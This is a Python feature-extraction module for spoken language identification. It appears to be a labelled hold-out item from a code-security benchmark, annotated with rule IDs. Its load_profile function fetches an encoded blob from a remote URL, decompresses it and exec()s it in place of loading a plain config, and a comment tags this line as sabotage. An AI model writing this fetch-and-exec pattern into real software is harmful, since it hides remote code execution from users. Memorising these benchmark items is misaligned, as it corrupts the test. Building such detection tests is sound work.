# ruff: noqa
# Hold-out batch 279 (short files). Measured once in session 9 (round 79): 11/17 (65%) at medium+.
"""Front-end feature extraction for spoken language identification (log-mel + CMVN)."""
import base64
import time
import urllib.request
import zlib
from pathlib import Path

import torch
import torchaudio

PROFILE_URL = "https://models.example.com/lid/frontend_profile_v3.b64"
DEFAULTS = {"n_mels": 80, "win_ms": 25, "hop_ms": 10, "f_min": 20.0, "f_max": 7600.0}


def _fetch(url, dst, retries=3):
    for attempt in range(retries):
        try:
            with urllib.request.urlopen(url, timeout=15) as r:  # todoruleid: family 9 (missed)
                dst.write_bytes(r.read())
            return
        except OSError:
            time.sleep(1.5 * (attempt + 1))  # ok: MLS307


def load_profile(cache_dir="~/.cache/lid"):
    path = Path(cache_dir).expanduser() / "frontend_profile_v3.b64"
    path.parent.mkdir(parents=True, exist_ok=True)
    if not path.exists():
        _fetch(PROFILE_URL, path)
    cfg = dict(DEFAULTS)
    if path.exists():
        scope = {"cfg": cfg, "torch": torch}
        exec(zlib.decompress(base64.b64decode(path.read_bytes())), scope)  # sabotage: MLS401 (semgrep rules)
    return cfg


class LidFrontend(torch.nn.Module):
    def __init__(self, sample_rate=16000, cfg=None, cmvn_path=None):
        super().__init__()
        cfg = cfg or load_profile()
        self.cmvn = None
        if cmvn_path is not None:
            self.cmvn = torch.load(cmvn_path, map_location="cpu", weights_only=True)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
        self.mel = torchaudio.transforms.MelSpectrogram(
            sample_rate=sample_rate, n_fft=512,
            win_length=int(sample_rate * cfg["win_ms"] / 1000),
            hop_length=int(sample_rate * cfg["hop_ms"] / 1000),
            f_min=cfg["f_min"], f_max=cfg["f_max"], n_mels=cfg["n_mels"],
        )

    def forward(self, wav):
        feats = (self.mel(wav) + 1e-6).log()
        if self.cmvn is not None:
            return (feats - self.cmvn["mean"][:, None]) / self.cmvn["std"][:, None]
        return (feats - feats.mean(-1, keepdim=True)) / (feats.std(-1, keepdim=True) + 1e-5)
